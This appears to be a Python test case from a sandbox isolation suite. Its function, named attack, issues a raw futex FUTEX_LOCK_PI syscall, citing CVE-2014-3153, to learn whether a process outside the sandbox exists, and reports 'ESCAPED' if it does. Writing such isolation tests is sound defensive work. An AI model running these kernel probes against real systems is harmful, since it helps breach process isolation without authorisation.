# Name another process as the owner of a lock: the kernel looks it up.
# source: futex(2), FUTEX_LOCK_PI; Linux CVE-2014-3153; found here: it got through
# expect: refused
# without the fence: escapes
# ruff: noqa

import ctypes, os

def attack(world):
    number = {"x86_64": 202, "aarch64": 98}[os.uname().machine]
    library = ctypes.CDLL(None, use_errno=True)
    word, no_time = ctypes.c_uint32(world["pid"]), (ctypes.c_int64 * 2)(0, 0)
    library.syscall(number, ctypes.byref(word), 6 | 128, 0, no_time, None, 0)
    there = ctypes.get_errno() in (1, 110)  # 3 if there is no such process
    return "ESCAPED" if there else None
